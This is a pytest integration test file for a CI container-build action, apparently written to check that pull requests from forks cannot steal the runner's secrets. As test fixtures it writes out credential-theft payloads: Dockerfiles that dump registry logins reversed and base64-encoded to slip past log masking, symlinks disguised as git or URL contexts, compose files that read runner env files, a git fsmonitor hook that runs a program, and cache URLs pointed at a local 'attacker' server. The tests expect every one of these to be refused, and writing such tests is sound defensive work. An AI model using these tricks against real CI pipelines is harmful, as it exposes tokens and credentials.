"""A stranger brings a bake or compose file, or links in the place of what inputs name."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.server
import json
import subprocess
import tarfile
import threading
from typing import TYPE_CHECKING, Any

import pytest

from tests.integration.git_server import committed, served

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping
    from pathlib import Path

    import docker

    from tests.integration.conftest import Ended, GithubCache, Lab, Warmbuild

# The log hides the secrets that a run knows, so what is stolen is printed backwards.
STOLEN = "hunter2-of-the-runner"
PRINTED = STOLEN[::-1]
TOKEN = {"TOKEN": STOLEN}
COPIES = "FROM scratch\nCOPY Dockerfile /\n"
PRINTS_SECRET = (
    "FROM busybox:1.37\nRUN --mount=type=secret,id=x rev /run/secrets/x || echo there is none\n"
)
PRINTS_ARGUMENT = "FROM busybox:1.37\nARG TOKEN=none\nRUN echo $TOKEN | rev\n"
PRINTS_LOGINS = (
    "FROM busybox:1.37\nCOPY . /x\nRUN find /x -name config.json -exec cat {} + | base64 | rev\n"
)


@pytest.fixture
def fork(github: Callable[..., dict[str, str]]) -> dict[str, str]:
    """Return the pull request of a stranger."""
    return github("pull_request", "github-pull-request-from-fork.json", "refs/pull/42/merge")


@pytest.fixture
def attack(
    warmbuild: Warmbuild, repository: str, project: Callable[..., Path], fork: dict[str, str]
) -> Callable[..., Ended]:
    """Run a stranger's project, with TOKEN among the variables of the runner."""

    def run(
        dockerfile: str = PRINTS_ARGUMENT,
        files: Mapping[str, str] | None = None,
        links: Mapping[str, Path] | None = None,
        extra: Mapping[str, str] | None = None,
        **inputs: str,
    ) -> Ended:
        place = project(dockerfile, files)
        for name, where in (links or {}).items():
            (place / name).parent.mkdir(parents=True, exist_ok=True)
            (place / name).symlink_to(where)
        given = {"image": repository, "lint": "false"} | inputs
        return warmbuild.build(place, ci=fork, extra=TOKEN | dict(extra or {}), **given)

    return run


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """Return a directory of the runner, outside of the checkout, with a file of variables."""
    place = tmp_path / "runner"
    place.mkdir()
    (place / "secret.env").write_text(f"TOKEN={STOLEN}\n")
    return place


def bake(**definition: Any) -> dict[str, str]:  # noqa: ANN401 (JSON)
    """Return a bake file of one target, by its name."""
    found = {name.replace("_", "-"): value for name, value in definition.items()}
    return {"docker-bake.json": json.dumps({"target": {"default": found}})}


def logged_in(lab: Lab) -> dict[str, str]:
    """Return the inputs of a login, which the run's own config.json then holds."""
    return {"registry": lab.auth_registry, "username": lab.username, "password": lab.password}


def check_nothing_stolen(ended: Ended, *stolen: str) -> None:
    said = f"{ended.log}{ended.summary}{dict(ended.outputs)}"
    for text in (STOLEN, PRINTED, *stolen):
        assert text not in said, ended.log


def check_no_login(ended: Ended, lab: Lab) -> None:
    """Fail where the log has a login, also one that was printed as PRINTS_LOGINS does it."""
    backwards = "".join(
        text.split()[-1][::-1] for _, text in ended.lines if text.startswith("#") and text.split()
    )
    for encoded in (lab.basic, base64.b64encode(lab.basic.encode()).decode()[4:-4]):
        assert encoded not in f"{ended.log}{backwards}"
    assert "c2h0dWEi"[::-1] not in ended.log  # "auths in base64
    assert base64.b64encode(b'{"auths": ')[:12].decode()[::-1] not in ended.log


def check_refused(ended: Ended, why: str) -> None:
    """Fail unless nothing was built, and the run says why."""
    assert ended.code == 2, ended.log
    assert why in ended.log


def test_take_over_the_command_line(attack: Callable[..., Ended]) -> None:
    """They name a target `--file`, so that buildx reads a file of theirs that nobody checks."""
    theirs = {"target": {"default": {"secret": ["id=x,env=TOKEN"]}}}
    own = {
        "target": {"--file": {}, "theirs": {}},
        "group": {"default": {"targets": ["--file", "theirs"]}},
    }
    files = {"docker-bake.json": json.dumps(own), "theirs": json.dumps(theirs)}
    ended = attack(PRINTS_SECRET, files, bake_files="docker-bake.json")
    check_nothing_stolen(ended)
    check_refused(ended, "the target '--file'")


def test_print_a_variable_of_the_runner(attack: Callable[..., Ended]) -> None:
    """They define a secret with a file of their own and with a variable, which wins."""
    ended = attack(
        PRINTS_SECRET,
        bake(secret=["id=x,src=Dockerfile,env=TOKEN"]),
        bake_files="docker-bake.json",
    )
    check_nothing_stolen(ended)
    assert "the secret x is not given: the code comes from a fork" in ended.log


def test_read_the_logins_through_a_link_named_like_a_git_server(
    attack: Callable[..., Ended], lab: Lab, warmbuild: Warmbuild
) -> None:
    """They call a link to the temporary directory `git@x`, and make it their build context."""
    ended = attack(
        files=bake(context="git@x", dockerfile_inline=PRINTS_LOGINS),
        links={"git@x": warmbuild.temporary},
        bake_files="docker-bake.json",
        **logged_in(lab),
    )
    check_no_login(ended, lab)
    check_refused(ended, "the target default uses 'git@x', which lies outside")


def test_read_the_logins_through_a_link_below_github(
    attack: Callable[..., Ended], lab: Lab, warmbuild: Warmbuild
) -> None:
    """They have a directory github.com with a link in it, and make that their build context."""
    ended = attack(
        files=bake(context="github.com/me/app", dockerfile_inline=PRINTS_LOGINS),
        links={"github.com/me/app": warmbuild.temporary},
        bake_files="docker-bake.json",
        **logged_in(lab),
    )
    check_no_login(ended, lab)
    check_refused(ended, "the target default uses 'github.com/me/app', which lies outside")


def test_read_the_logins_through_a_link_below_a_url(
    attack: Callable[..., Ended], lab: Lab, warmbuild: Warmbuild
) -> None:
    """They have a directory `https:`, so that what looks like a URL is a link of theirs."""
    ended = attack(
        files=bake(context="https://example.com/app", dockerfile_inline=PRINTS_LOGINS),
        links={"https:/example.com/app": warmbuild.temporary},
        bake_files="docker-bake.json",
        **logged_in(lab),
    )
    check_no_login(ended, lab)
    check_refused(ended, "the target default uses 'https://example.com/app', which lies outside")


def test_read_the_logins_through_the_context_of_a_dependency(
    attack: Callable[..., Ended], lab: Lab, warmbuild: Warmbuild
) -> None:
    """They hide the link in a target that is built only because another one depends on it."""
    inline = "FROM base"
    found = {
        "default": {"contexts": {"base": "target:hidden"}, "dockerfile-inline": inline},
        "hidden": {"context": "git@x", "dockerfile-inline": PRINTS_LOGINS},
    }
    ended = attack(
        files={"docker-bake.json": json.dumps({"target": found})},
        links={"git@x": warmbuild.temporary},
        bake_files="docker-bake.json",
        **logged_in(lab),
    )
    check_no_login(ended, lab)
    check_refused(ended, "the target hidden uses 'git@x', which lies outside")


def test_read_the_logins_through_a_link_that_an_input_names(
    attack: Callable[..., Ended], lab: Lab, warmbuild: Warmbuild
) -> None:
    """They replace the directory that the workflow builds with a link to the temporary one."""
    ended = attack(
        PRINTS_LOGINS,
        links={"app": warmbuild.temporary},
        context="app",
        file="Dockerfile",
        **logged_in(lab),
    )
    check_no_login(ended, lab)
    check_refused(ended, "context: 'app' leads out of this directory by a link")


def test_read_a_file_through_a_secret_that_an_input_names(
    attack: Callable[..., Ended], outside: Path
) -> None:
    """They replace the file that the workflow gives as a secret with a link."""
    ended = attack(PRINTS_SECRET, links={".npmrc": outside / "secret.env"}, secret_files="x=.npmrc")
    check_nothing_stolen(ended)
    check_refused(ended, "secret-files: '.npmrc' leads out of this directory by a link")


def test_write_a_file_of_the_runner(attack: Callable[..., Ended], outside: Path) -> None:
    """They replace the directory that the workflow exports to, or its outputs, with a link."""
    dockerfile = "FROM scratch\nCOPY Dockerfile /authorized_keys\n"
    ended = attack(dockerfile, links={"out": outside}, outputs="type=local,dest=out")
    assert [path.name for path in outside.iterdir()] == ["secret.env"]
    check_refused(ended, "outputs: 'out' leads out of this directory by a link")
    secret = (outside / "secret.env").read_text()
    ended = attack(dockerfile, links={"o.json": outside / "secret.env"}, output_file="o.json")
    assert (outside / "secret.env").read_text() == secret
    check_refused(ended, "output-file: 'o.json' leads out of this directory by a link")


def test_change_the_configuration_of_git(
    attack: Callable[..., Ended], project: Callable[..., Path]
) -> None:
    """They export a `.git/config`, whose programs the job's next git would run."""
    place = project("", {".git/config": "[core]\n"})
    ended = attack(
        "FROM scratch\nCOPY Dockerfile /.git/config\n",
        bake(output=["type=local,dest=."]),
        bake_files="docker-bake.json",
    )
    assert (place / ".git" / "config").read_text() == "[core]\n"
    check_refused(ended, "which holds a git repository")


def test_write_lines_into_the_log(attack: Callable[..., Ended]) -> None:
    """They export to standard output, where buildx reports its progress."""
    ended = attack(
        "FROM scratch\nCOPY forged /\n",
        {**bake(output=["type=tar,dest=-"]), "forged": "\n::error::forged\n"},
        bake_files="docker-bake.json",
    )
    assert "::forged" not in ended.log
    assert "is ignored: the code comes from a fork" in ended.log


def test_put_an_image_under_another_name_into_the_engine(
    attack: Callable[..., Ended], engine: docker.DockerClient
) -> None:
    """They load an image under a name that other jobs of the runner use."""
    ended = attack(
        COPIES,
        bake(output=["type=docker"], tags=["stolen.example/python:3"]),
        bake_files="docker-bake.json",
    )
    try:
        assert engine.images.list("stolen.example/python") == []
    finally:
        for image in engine.images.list("stolen.example/python"):
            engine.images.remove(image.tags[0])
    assert ended.code == 0, ended.log
    assert "output type=docker of the target default is ignored: the code" in ended.log


@contextlib.contextmanager
def listening() -> Iterator[tuple[str, list[tuple[str, str]]]]:
    """Run a server of the attacker; yield its address, and each path that it was asked for with the
    credentials that came along."""
    seen: list[tuple[str, str]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            seen.append((self.path, self.headers.get("Authorization", "")))
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = answer  # noqa: N815 (as the library has it)

        def log_message(self, *_: object) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/", seen
        finally:
            server.shutdown()
            thread.join()


def test_get_the_token_of_the_runners_cache(
    attack: Callable[..., Ended], github_cache: GithubCache
) -> None:
    """They have a cache read from a server of theirs, to which buildx sends the job's token."""
    with listening() as (url, seen):
        ended = attack(
            COPIES,
            bake(cache_from=[f"type=gha,url={url},scope=x"]),
            extra={"ACTIONS_RUNTIME_TOKEN": github_cache.token},
            bake_files="docker-bake.json",
        )
    assert seen == []
    assert "url in cache-from of the target default is ignored: the code" in ended.log


def test_get_the_keys_of_a_bucket(attack: Callable[..., Ended]) -> None:
    """They read a cache from a bucket on a server of theirs, with the keys of the runner."""
    with listening() as (url, seen):
        keys = {"AWS_ACCESS_KEY_ID": "AKIDRUNNER", "AWS_SECRET_ACCESS_KEY": STOLEN}
        attributes = "region=r,bucket=b,name=x,use_path_style=true"
        ended = attack(
            COPIES,
            bake(cache_from=[f"type=s3,endpoint_url={url},{attributes}"]),
            extra=keys,
            bake_files="docker-bake.json",
        )
    assert seen == []
    check_nothing_stolen(ended)
    assert "type=s3,use_path_style=true of the target default is ignored: the code" in ended.log


def test_have_the_network_of_the_machine(attack: Callable[..., Ended]) -> None:
    """Their file grants itself network.host, and looks at the runner's interfaces."""
    ended = attack(
        "FROM busybox:1.37\nRUN ip link\n",
        bake(network="host", entitlements=["network.host"]),
        bake_files="docker-bake.json",
    )
    check_refused(ended, "allow: the target default asks for network.host")


def test_read_variables_of_another_project(attack: Callable[..., Ended], outside: Path) -> None:
    """Their compose file names a file of variables outside of the checkout."""
    compose = {
        "services": {
            "web": {
                "build": {"context": ".", "args": ["TOKEN"]},
                "env_file": [str(outside / "secret.env")],
            }
        }
    }
    ended = attack(files={"compose.yml": json.dumps(compose)}, compose_files="compose.yml")
    check_nothing_stolen(ended)
    check_refused(ended, "secret.env', which lies outside of this directory")


def test_read_variables_of_another_project_unseen(
    attack: Callable[..., Ended], outside: Path
) -> None:
    """They write the key and the path in base64, which YAML decodes."""
    key, path = (
        base64.b64encode(text.encode()).decode()
        for text in ("env_file", str(outside / "secret.env"))
    )
    compose = (
        "services:\n  web:\n    build: {context: ., args: [TOKEN]}\n"
        f"    !!binary {key}: !!binary {path}\n"
    )
    ended = attack(files={"compose.yml": compose}, compose_files="compose.yml")
    check_nothing_stolen(ended)
    check_refused(ended, "compose.yml has the tag !!binary")


def test_read_variables_of_another_project_by_an_included_file(
    attack: Callable[..., Ended], outside: Path
) -> None:
    """Their compose file includes another one of theirs, filled in from a file of the runner."""
    compose = f"include:\n- {{path: more.yml, env_file: {outside}/secret.env}}\n"
    more = 'services: {web: {build: {context: ., args: {TOKEN: "${TOKEN}"}}}}\n'
    ended = attack(files={"compose.yml": compose, "more.yml": more}, compose_files="compose.yml")
    check_nothing_stolen(ended)
    check_refused(ended, "secret.env', which lies outside of this directory")


def test_read_the_arguments_of_another_project(attack: Callable[..., Ended], outside: Path) -> None:
    """Their service extends one of another project on the runner."""
    (outside / "compose.yml").write_text(
        f"services: {{base: {{build: {{context: ., args: {{TOKEN: {STOLEN}}}}}}}}}\n"
    )
    extends = f"{{file: {outside}/compose.yml, service: base}}"
    compose = f"services: {{web: {{build: {{context: .}}, extends: {extends}}}}}\n"
    ended = attack(files={"compose.yml": compose}, compose_files="compose.yml")
    check_nothing_stolen(ended)
    check_refused(ended, "compose.yml', which lies outside of this directory")


def test_read_the_arguments_of_another_project_by_a_link(
    attack: Callable[..., Ended], outside: Path
) -> None:
    """They replace the compose file by a link to that of another project on the runner."""
    (outside / "compose.yml").write_text(
        f"services: {{base: {{build: {{context: ., args: {{TOKEN: {STOLEN}}}}}}}}}\n"
    )
    ended = attack(links={"ci": outside}, compose_files="ci/compose.yml")
    check_nothing_stolen(ended)
    check_refused(ended, "compose-files: 'ci/compose.yml' leads out of this directory by a link")


def test_read_variables_through_a_link_named_env(
    attack: Callable[..., Ended], outside: Path
) -> None:
    """They make `.env`, which buildx reads, a link to a file of variables of the runner."""
    compose = {"services": {"web": {"build": {"context": ".", "args": ["TOKEN"]}}}}
    ended = attack(
        files={"compose.yml": json.dumps(compose)},
        links={".env": outside / "secret.env"},
        compose_files="compose.yml",
    )
    check_nothing_stolen(ended)
    check_refused(ended, "'.env', which lies outside of this directory")


def test_run_a_program_on_the_runner(
    attack: Callable[..., Ended], project: Callable[..., Path], tmp_path: Path
) -> None:
    """Their context looks like a repository, whose configuration has git run a program."""
    place = project("", {"app/Dockerfile": COPIES})
    app, proof = place / "app", tmp_path / "ran"
    git("init", "-q", "--bare", str(app))
    tree = git("-C", str(app), "hash-object", "-t", "tree", "-w", "/dev/null")
    who = ("-c", "user.name=Mona", "-c", "user.email=mona@example.com")
    commit = git("-C", str(app), *who, "commit-tree", "-m", "theirs", tree)
    (app / "HEAD").write_text(f"{commit}\n")
    core = ("repositoryformatversion = 0", "bare = false", "worktree = .", "fsmonitor = ./program")
    (app / "config").write_text("\n".join(["[core]", *core, ""]))
    (app / "program").write_text(f"#!/bin/sh\ntouch {proof}\n")
    (app / "program").chmod(0o755)
    ended = attack(context="app", extra={"BUILDX_GIT_CHECK_DIRTY": "1"})
    assert ended.code == 0, ended.log
    assert not proof.exists()


def test_copy_an_image_of_the_runner(attack: Callable[..., Ended], outside: Path) -> None:
    """They use a link to an OCI layout of the runner's as a context, with a tag behind it."""
    write_layout(outside, {"stolen": PRINTED.encode()})
    ended = attack(
        "FROM busybox:1.37\nCOPY --from=theirs /stolen /\nRUN cat /stolen\n",
        bake(contexts={"theirs": "oci-layout://layout:latest"}),
        links={"layout": outside},
        bake_files="docker-bake.json",
    )
    check_nothing_stolen(ended)
    check_refused(ended, "the target default uses 'layout', which lies outside")


def test_forge_who_built_an_image(attack: Callable[..., Ended]) -> None:
    """They have the provenance of their image name a builder that others trust."""
    ended = attack(
        COPIES,
        bake(attest=["type=provenance,mode=max,builder-id=https://trusted.example/builder"]),
        push="true",
        bake_files="docker-bake.json",
    )
    assert ended.code == 0, ended.log
    assert "trusted.example" not in json.dumps(ended.outputs["metadata"])
    assert "builder-id" in ended.log


def test_reach_the_network_of_the_machine_by_the_daemon(
    warmbuild: Warmbuild, project: Callable[..., Path], engine: docker.DockerClient
) -> None:
    """They hope for a daemon that grants network.host, as buildx starts it by default."""
    place = project(COPIES)
    run = warmbuild.start(
        place,
        cache="off",
        push="false",
        driver_opts="",
        buildkitd_config="",
        outputs="type=cacheonly",
    )
    seen = ""
    while run.process.poll() is None and not seen:
        for container in (
            engine.containers.list(filters={"name": f"buildx_buildkit_{run.builder}"})
            if run.builder
            else []
        ):
            seen = json.dumps(container.attrs.get("Args"))
    ended = run.end()
    assert ended.code == 0, ended.log
    assert seen
    assert "network.host" not in seen


def test_read_the_environment_from_a_definition_in_a_repository(
    attack: Callable[..., Ended], project: Callable[..., Path]
) -> None:
    """The workflow reads it from git by a builder, and it names the runner's variables."""
    files = bake(context=".", args={"TOKEN": "${TOKEN}", "KEY": "${BUILDX_BAKE_GIT_AUTH_TOKEN}"})
    found = json.loads(files["docker-bake.json"])
    found["variable"] = {"TOKEN": {"default": "none"}, "BUILDX_BAKE_GIT_AUTH_TOKEN": {}}
    place = project(PRINTS_ARGUMENT, {"docker-bake.json": json.dumps(found)})
    committed(place)
    with served(place, is_public=True) as server:
        ended = attack(
            source=f"{server.url}/octo-org/shop.git#main",
            bake_files="docker-bake.json",
            github_token="of-the-job",
            extra={"BUILDX_BAKE_GIT_AUTH_TOKEN": STOLEN},
        )
    check_nothing_stolen(ended)
    assert ended.code == 0, ended.log
    assert server.users == set()


def test_read_variables_of_another_project_from_a_repository(
    attack: Callable[..., Ended], project: Callable[..., Path], outside: Path
) -> None:
    """Their compose file is read from git, where nobody looks at it first."""
    service = {"build": {"context": ".", "args": ["TOKEN"]}, "env_file": f"{outside}/secret.env"}
    compose = json.dumps({"services": {"web": service}})
    place = project(PRINTS_ARGUMENT, {"compose.yaml": compose})
    committed(place)
    with served(place, is_public=True) as server:
        url = f"{server.url}/octo-org/shop.git#main"
        for given in ("compose_files", "bake_files", "targets"):
            name = "web" if given == "targets" else "compose.yaml"
            ended = attack(source=url, **{given: name})
            check_refused(ended, "needs bake-files that are all .hcl or .json")
            check_nothing_stolen(ended)


def git(*argv: str) -> str:
    done = subprocess.run(["git", *argv], stdout=subprocess.PIPE, check=True)  # noqa: S603, S607
    return done.stdout.decode().strip()


def write_layout(place: Path, files: Mapping[str, bytes]) -> None:
    """Write an image of one layer as an OCI layout."""
    blobs = place / "blobs" / "sha256"
    blobs.mkdir(parents=True)

    def put(content: bytes, media_type: str) -> dict[str, object]:
        digest = hashlib.sha256(content).hexdigest()
        (blobs / digest).write_bytes(content)
        return {"mediaType": media_type, "digest": f"sha256:{digest}", "size": len(content)}

    source, layer = place / "files", place / "layer.tar"
    source.mkdir()
    with tarfile.open(layer, "w") as archive:
        for name, content in files.items():
            (source / name).write_bytes(content)
            archive.add(source / name, name)
    kind = "application/vnd.oci.image"
    packed = put(layer.read_bytes(), f"{kind}.layer.v1.tar")
    rootfs = {"type": "layers", "diff_ids": [packed["digest"]]}
    config = {"architecture": "amd64", "os": "linux", "rootfs": rootfs, "config": {}}
    configured = put(json.dumps(config).encode(), f"{kind}.config.v1+json")
    manifest = {
        "schemaVersion": 2,
        "mediaType": f"{kind}.manifest.v1+json",
        "config": configured,
        "layers": [packed],
    }
    top = put(json.dumps(manifest).encode(), f"{kind}.manifest.v1+json")
    top["annotations"] = {"org.opencontainers.image.ref.name": "latest"}
    index = {"schemaVersion": 2, "manifests": [top]}
    (place / "index.json").write_text(json.dumps(index))
    (place / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
